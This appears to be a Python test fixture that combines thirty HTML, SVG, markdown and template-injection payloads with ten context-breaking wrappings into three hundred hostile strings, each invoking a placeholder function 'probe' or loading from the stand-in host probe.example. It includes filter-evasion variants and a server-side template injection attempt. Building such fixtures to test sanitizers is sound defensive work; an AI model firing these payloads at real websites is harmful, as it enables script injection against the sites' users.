"""Three hundred texts that try to become more than text. Each would run, or load, something named `probe`."""

from itertools import product
from typing import Final

_VECTORS: Final = (
    "<script>probe()</script>",
    "<ScRiPt src=//probe.example/x.js></sCrIpT>",
    "<img src=x onerror=probe()>",
    "<img/src/onerror=probe()>",
    "<svg onload=probe()>",
    "<svg><script>probe()</script></svg>",
    "<svg><animate onbegin=probe() attributeName=x></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=probe()>",
    "<iframe srcdoc='<script>probe()</script>'></iframe>",
    "<a href='javascript:probe()'>x</a>",
    '<a href="java\tscript:probe()">x</a>',
    "<body onload=probe()>",
    "<details open ontoggle=probe()>",
    "<video><source onerror=probe()></video>",
    "<input autofocus onfocus=probe()>",
    "<form action=//probe.example><input type=submit></form>",
    "<base href=//probe.example/>",
    "<meta http-equiv=refresh content='0;url=//probe.example'>",
    "<link rel=stylesheet href=//probe.example/x.css>",
    "<style>@import '//probe.example/x.css';</style>",
    "<object data=data:text/html,probe></object>",
    "<template><script>probe()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=probe()>'>",
    "[x](javascript:probe())",
    "![x](//probe.example/x.png)",
    "[x]: javascript:probe()\n[x]",
    "<javascript:probe()>",
    "&lt;script&gt;probe()&lt;/script&gt;",
    "&#60;script&#62;probe()&#60;/script&#62;",
    "{{ config }}{% import 'os' as probe %}",
)
_WRAPPINGS: Final = (
    "%s",
    '">%s',
    "'>%s",
    "</textarea></title></script>%s",
    "**%s**",
    "- %s\n- x",
    "# %s",
    "<!--%s-->",
    "\\%s",
    "<p>%s</p",
)

HOSTILE_TEXTS: Final = tuple(wrapping % vector for vector, wrapping in product(_VECTORS, _WRAPPINGS))
